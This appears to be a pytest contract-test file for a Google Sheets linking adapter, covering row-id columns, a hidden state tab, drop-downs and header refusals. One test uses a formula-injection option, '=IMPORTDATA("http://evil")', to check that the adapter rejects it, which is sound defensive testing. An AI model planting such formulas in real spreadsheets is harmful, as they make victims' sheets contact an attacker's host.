"""Preparing a tab for linking, against the sandbox over HTTP."""

import re
from dataclasses import replace
from itertools import islice
from typing import Any

import pytest

from adapters import sheets_prepare
from adapters.sheets_cells import encode_value, grid
from adapters.sheets_client import SheetsClient
from adapters.sheets_look import look_at_tab
from adapters.sheets_prepare import new_row_id, prepare_tab, row_ids
from adapters.sheets_remove import remove_link_from_tab
from adapters.sheets_tab import GoogleSheet
from core.errors import LinkRefused, ReplyLost, SheetsRefused
from core.sheet import CellWrite, RowInsert, SwapWrite
from core.values import Serial
from tests.contract.sheets.worlds import PlainCodec, linked

COLUMNS = linked(
    "Code",
    "State",
    "Day",
    Code=PlainCodec(plain_text=True),
    State=PlainCodec(options=("open", "done")),
    Day=PlainCodec(number_format=("DATE", "yyyy-mm-dd")),
)


class Spreadsheet:
    """A spreadsheet with one tab, and a person at it."""

    def __init__(self, sandbox: Any, *lines: tuple[Any, ...]) -> None:
        self.sandbox = sandbox
        made = sandbox.post("/v4/spreadsheets", {"sheets": [{"properties": {"title": "Orders"}}]}, token="person")
        self.id: str = made["spreadsheetId"]
        self.sheet_id: int = made["sheets"][0]["properties"]["sheetId"]
        if lines:
            self.write(1, 0, *lines)

    def batch(self, *requests: Any) -> None:
        self.sandbox.post(f"/v4/spreadsheets/{self.id}:batchUpdate", {"requests": list(requests)}, token="person")

    def write(self, row: int, column: int, *lines: tuple[Any, ...]) -> None:
        rows = [{"values": [encode_value(v) for v in line]} for line in lines]
        start = {"sheetId": self.sheet_id, "rowIndex": row - 1, "columnIndex": column}
        self.batch({"updateCells": {"start": start, "rows": rows, "fields": "userEnteredValue"}})

    def type(self, cell: str, text: str) -> None:
        """A person types, parsed as Google parses."""
        self.sandbox.post(f"/person/{self.id}/edit", {"tab": "Orders", "range": cell, "values": [[text]]})

    @property
    def state(self) -> Any:
        return self.sandbox.post(f"/state/{self.id}", method="GET")

    @property
    def values(self) -> list[list[Any]]:
        found: list[list[Any]] = self.state["tabs"]["Orders"]["values"]
        return found

    def whole(self) -> Any:
        """Everything that the API tells of the spreadsheet."""
        return self.sandbox.post(f"/v4/spreadsheets/{self.id}?includeGridData=true", method="GET", token="person")


@pytest.fixture
def sheet(sandbox: Any) -> Spreadsheet:
    return Spreadsheet(sandbox, ("Code", "State", "Day"), ("a", "open", None), (), ("b", None, None))


def prepare(client: SheetsClient, sheet: Spreadsheet, link: str = "orders", **options: Any) -> Any:
    return prepare_tab(client, sheet.id, "Orders", link, COLUMNS, **options)


def test_the_id_column_stands_right_after_the_last_header_hidden_with_an_id_for_every_row(
    client: SheetsClient, sheet: Spreadsheet
) -> None:
    prepare(client, sheet)
    tab = sheet.state["tabs"]["Orders"]
    assert tab["values"][0] == ["Code", "State", "Day", "_row_id"]
    assert tab["hidden_columns"] == ["D"]
    assert re.fullmatch("r_[a-z2-7]{16}", tab["values"][1][3])
    assert tab["values"][2] == []
    assert tab["values"][3][3] != tab["values"][1][3]
    protected = sheet.whole()["sheets"][0]["protectedRanges"]
    assert [(p["warningOnly"], p["range"]["startColumnIndex"]) for p in protected] == [(True, 3)]


def test_the_hidden_tab_holds_the_links_row(client: SheetsClient, sheet: Spreadsheet) -> None:
    prepare(client, sheet)
    state = sheet.state["tabs"]["_twinsheet"]["values"]
    assert state[0][:6] == ["link", "n", "epoch", "q", "scratch_column", "scratch_width"]
    assert state[1][0] == "orders"
    hidden = [s["properties"].get("hidden", False) for s in sheet.whole()["sheets"]]
    assert hidden == [False, True]


def test_preparing_twice_changes_nothing_and_writes_nothing(client: SheetsClient, sheet: Spreadsheet) -> None:
    first = prepare(client, sheet)
    before, writes = sheet.whole(), sheet.state["writes"]
    assert prepare(client, sheet) == first
    assert sheet.whole() == before
    assert sheet.state["writes"] == writes


def test_preparing_keeps_counters_of_a_link_that_was_there(client: SheetsClient, sheet: Spreadsheet) -> None:
    target = prepare(client, sheet)
    google = GoogleSheet(client)
    google.swap(target, SwapWrite(n=9, epoch=3, cells=(CellWrite("", 2, "State", "done"),)))
    prepare(client, sheet)
    assert google.read_tab(target).stamp.n == 9


def test_preparing_after_a_lost_reply_completes(client: SheetsClient, sandbox: Any, sheet: Spreadsheet) -> None:
    sandbox.faults(lost_replies=1.0)
    with pytest.raises(ReplyLost):
        prepare(client, sheet)
    sandbox.faults()
    prepare(client, sheet)
    assert sheet.values[0] == ["Code", "State", "Day", "_row_id"]


def test_texts_typed_into_a_prepared_column_stay_texts_in_later_rows_too(
    client: SheetsClient, sheet: Spreadsheet
) -> None:
    target = prepare(client, sheet)
    google = GoogleSheet(client)
    google.swap(target, SwapWrite(n=1, epoch=1, inserts=(RowInsert("r_x", {"State": "open"}),), insert_after_row=4))
    for cell in ("A2", "A5", "A300"):
        sheet.type(cell, "00501")
    rows = {r.row: r.cells["Code"].value for r in google.read_tab(target).rows if "Code" in r.cells}
    assert (rows[2], rows[5], rows[300]) == ("00501", "00501", "00501")


def test_options_become_a_drop_down_of_the_whole_column(client: SheetsClient, sheet: Spreadsheet) -> None:
    prepare(client, sheet)
    data = sheet.whole()["sheets"][0]["data"][0]["rowData"]
    rule = data[1]["values"][1]["dataValidation"]
    assert rule["condition"]["type"] == "ONE_OF_LIST"
    assert [v["userEnteredValue"] for v in rule["condition"]["values"]] == ["open", "done"]
    assert "dataValidation" not in data[0]["values"][1]


def test_options_that_google_would_read_as_formulas_become_no_drop_down(client: SheetsClient, sandbox: Any) -> None:
    sheet = Spreadsheet(sandbox, ("Code",), ("a",))
    hostile = linked("Code", Code=PlainCodec(options=("open", '=IMPORTDATA("http://evil")')))
    prepare_tab(client, sheet.id, "Orders", "orders", hostile)
    assert "ONE_OF_LIST" not in str(sheet.whole())


def test_what_stands_right_of_the_headers_makes_room_and_is_not_overwritten(
    client: SheetsClient, sandbox: Any
) -> None:
    sheet = Spreadsheet(sandbox, ("Code", "State", "Day"), ("a", "open", None, "a remark"))
    prepare(client, sheet)
    assert sheet.values[0] == ["Code", "State", "Day", "_row_id"]
    assert sheet.values[1][4] == "a remark"


def test_a_header_in_the_last_column_of_the_grid_gets_a_new_column_beside_it(
    client: SheetsClient, sandbox: Any
) -> None:
    sheet = Spreadsheet(sandbox)
    sheet.write(1, 23, ("Code", "State", "Day"))
    prepare(client, sheet)
    assert sheet.values[0][23:] == ["Code", "State", "Day", "_row_id"]


def test_a_blank_tab_gets_the_headers_when_asked_to(client: SheetsClient, sandbox: Any) -> None:
    sheet = Spreadsheet(sandbox)
    with pytest.raises(LinkRefused, match="no headers in row 1"):
        prepare(client, sheet)
    target = prepare(client, sheet, create=True)
    assert sheet.values == [["Code", "State", "Day", "_row_id"]]
    assert GoogleSheet(client).read_tab(target).missing_headers == ()


def grid_of(sheet: Spreadsheet, title: str) -> Any:
    """Properties of a tab, and what is known of its columns."""
    (found,) = (s for s in sheet.whole()["sheets"] if s["properties"]["title"] == title)
    return found["properties"]["gridProperties"], found["data"][0]["columnMetadata"]


def test_a_blank_tab_gets_a_frozen_header_row_and_columns_as_wide_as_their_values(
    client: SheetsClient, sandbox: Any
) -> None:
    sheet = Spreadsheet(sandbox)
    prepare(client, sheet, create=True)
    size, columns = grid_of(sheet, "Orders")
    assert size["frozenRowCount"] == 1
    assert [c["pixelSize"] for c in columns[:4]] == [104, 72, 104, 100]
    before = sheet.whole()
    prepare(client, sheet, create=True)
    assert sheet.whole() == before


def test_a_key_that_the_table_gives_gets_its_header_behind_the_last_one_and_what_stands_there_makes_room(
    client: SheetsClient, sandbox: Any
) -> None:
    sheet = Spreadsheet(sandbox, ("Code", "State", "Day"), ("a", "open", None, "a remark", "another"))
    columns = (*COLUMNS, *linked("id"))
    target = prepare_tab(client, sheet.id, "Orders", "orders", columns, adds=("id",))
    assert sheet.values[0] == ["Code", "State", "Day", "id", "_row_id"]
    assert sheet.values[1][5:] == ["a remark", "another"]
    assert sheet.state["tabs"]["Orders"]["hidden_columns"] == ["E"]
    (row,) = GoogleSheet(client).read_tab(target).rows
    assert (row.cells["Code"].value, "id" in row.cells) == ("a", False)
    before = sheet.whole()
    prepare_tab(client, sheet.id, "Orders", "orders", columns, adds=("id",))
    assert sheet.whole() == before


def test_a_header_that_is_to_be_added_in_a_full_grid_gets_a_column_of_its_own(
    client: SheetsClient, sandbox: Any
) -> None:
    sheet = Spreadsheet(sandbox)
    sheet.write(1, 23, ("Code", "State", "Day"))
    prepare_tab(client, sheet.id, "Orders", "orders", (*COLUMNS, *linked("id")), adds=("id",))
    assert sheet.values[0][23:] == ["Code", "State", "Day", "id", "_row_id"]


def test_a_tab_that_is_not_there_is_made_when_asked_to_with_formats_for_later_rows(
    client: SheetsClient, sandbox: Any
) -> None:
    sheet = Spreadsheet(sandbox, ("something", "else"))
    looked = look_at_tab(client, sheet.id, "Stock", (), may_lack=True)
    assert (looked.is_there, looked.is_blank, looked.headers) == (False, True, ())
    target = prepare_tab(client, sheet.id, "Stock", "stock", COLUMNS, create=True)
    tabs = sheet.state["tabs"]
    assert tabs["Stock"]["values"] == [["Code", "State", "Day", "_row_id"]]
    assert tabs["Stock"]["hidden_columns"] == ["D"]
    assert tabs["Orders"]["values"] == [["something", "else"]]
    assert grid_of(sheet, "Stock")[0]["frozenRowCount"] == 1
    for cell, text in (("A2", "00501"), ("C2", "2024-05-06")):
        sandbox.post(f"/person/{sheet.id}/edit", {"tab": "Stock", "range": cell, "values": [[text]]})
    (row,) = GoogleSheet(client).read_tab(target).rows
    assert row.cells["Code"].value == "00501"
    assert row.cells["Day"].value == Serial(45418.0)


def test_a_tab_is_not_made_beside_one_of_nearly_the_same_name(client: SheetsClient, sheet: Spreadsheet) -> None:
    with pytest.raises(LinkRefused) as refused:
        prepare_tab(client, sheet.id, "orders ", "orders", COLUMNS, create=True)
    assert refused.value.hint == "Did you mean Orders?"


def test_a_tab_with_something_in_it_is_not_blank(client: SheetsClient, sandbox: Any) -> None:
    sheet = Spreadsheet(sandbox)
    assert look_at_tab(client, sheet.id, "Orders", ()).is_blank
    sheet.write(7, 3, ("a remark",))
    assert not look_at_tab(client, sheet.id, "Orders", ()).is_blank


def test_a_missing_tab_is_refused_with_the_names_that_there_are(client: SheetsClient, sheet: Spreadsheet) -> None:
    with pytest.raises(LinkRefused) as refused:
        prepare_tab(client, sheet.id, "Ordres", "orders", COLUMNS)
    assert "Orders" in refused.value.hint


def test_missing_and_doubled_headers_are_refused_by_name(client: SheetsClient, sandbox: Any) -> None:
    sheet = Spreadsheet(sandbox, ("Code", "Day", "Day"))
    with pytest.raises(LinkRefused, match="Day more than once"):
        prepare(client, sheet)
    sheet.write(1, 2, ("Other",))
    writes = sheet.state["writes"]
    with pytest.raises(LinkRefused, match="no header State"):
        prepare(client, sheet)
    assert sheet.state["writes"] == writes


def test_looking_at_a_tab_changes_nothing_and_tells_its_rows(client: SheetsClient, sheet: Spreadsheet) -> None:
    writes = sheet.state["writes"]
    before = look_at_tab(client, sheet.id, "Orders", ["Code", "State", "Gone"])
    assert before.headers == ("Code", "State", "Day")
    assert before.image.missing_headers == ("Gone",)
    assert [(r.row, r.cells["Code"].value) for r in before.image.rows] == [(2, "a"), (4, "b")]
    assert sheet.state["writes"] == writes


def test_one_look_at_a_tab_does_for_any_headers(client: SheetsClient, sheet: Spreadsheet) -> None:
    headers = ["Code", "Day", "Gone"]
    wanted = look_at_tab(client, sheet.id, "Orders", headers).image
    look, calls = look_at_tab(client, sheet.id, "Orders", ()), sheet.state["calls"]
    told = look.by_headers(headers).image
    assert replace(told, read_at=wanted.read_at, rows=wanted.rows) == wanted
    rows, expected = ([(r.row, r.row_id, dict(r.cells)) for r in image.rows] for image in (told, wanted))
    assert rows == expected != []
    assert sheet.state["calls"] == calls


def test_removing_a_link_leaves_the_data_and_nothing_else(client: SheetsClient, sheet: Spreadsheet) -> None:
    values = sheet.values
    target = prepare(client, sheet)
    remove_link_from_tab(client, target)
    assert sheet.values == values
    assert sheet.state["tabs"]["Orders"]["hidden_columns"] == []
    metadata = [c.get("developerMetadata") for c in sheet.whole()["sheets"][0]["data"][0]["columnMetadata"]]
    assert not any(metadata)
    with pytest.raises(SheetsRefused, match="does not know link"):
        GoogleSheet(client).read_tab(target)
    assert GoogleSheet(client).read_tab(prepare(client, sheet)).last_row == 4


def test_two_links_of_one_tab_share_the_id_column_until_the_last_goes(
    client: SheetsClient, sheet: Spreadsheet
) -> None:
    first, second = prepare(client, sheet), prepare(client, sheet, "again")
    ids = [r.row_id for r in GoogleSheet(client).read_tab(first).rows]
    assert [r.row_id for r in GoogleSheet(client).read_tab(second).rows] == ids
    remove_link_from_tab(client, first)
    assert [r.row_id for r in GoogleSheet(client).read_tab(second).rows] == ids
    remove_link_from_tab(client, second)
    assert sheet.values[0] == ["Code", "State", "Day"]


def test_a_prepared_columns_header_may_be_renamed(client: SheetsClient, sheet: Spreadsheet) -> None:
    target = prepare(client, sheet)
    sheet.write(1, 0, ("Renamed",))
    image = GoogleSheet(client).read_tab(target)
    assert image.missing_headers == ()
    assert image.titles["Code"] == "Renamed"
    prepare(client, sheet)
    assert sheet.values[0] == ["Renamed", "State", "Day", "_row_id"]


def test_row_ids_are_opaque_and_unlike_each_other() -> None:
    ids = {new_row_id(), new_row_id(), *islice(row_ids(drawn_at_once=7), 100)}
    assert len(ids) == 102
    assert all(re.fullmatch("r_[a-z2-7]{16}", i) for i in ids)


def test_merged_cells_are_refused_with_the_way_to_unmerge_them(client: SheetsClient, sheet: Spreadsheet) -> None:
    sheet.batch({"mergeCells": {"range": grid(sheet.sheet_id, 2, 1, 0, 2), "mergeType": "MERGE_ALL"}})
    with pytest.raises(LinkRefused, match="merged cells") as refused:
        prepare(client, sheet)
    assert "Unmerge" in refused.value.hint
    assert "--header-row" not in refused.value.hint


def test_a_merged_title_in_the_place_of_the_headers_is_refused_with_the_row_below_it(
    client: SheetsClient, sheet: Spreadsheet
) -> None:
    sheet.batch({"mergeCells": {"range": grid(sheet.sheet_id, 1, 2, 0, 2), "mergeType": "MERGE_ALL"}})
    with pytest.raises(LinkRefused, match="merged cells") as refused:
        prepare(client, sheet)
    assert "--header-row 3" in refused.value.hint


def test_a_long_tab_gets_its_ids_in_pieces_and_every_row_one(
    client: SheetsClient, sandbox: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sheets_prepare, "IDS_PER_CALL", 50)
    sheet = Spreadsheet(sandbox, ("Code", "State", "Day"), *((f"c{i}",) for i in range(230)))
    writes = sheet.state["writes"]
    target = prepare(client, sheet)
    assert len({r.row_id for r in GoogleSheet(client).read_tab(target).rows}) == 230
    assert sheet.state["writes"] - writes == 5
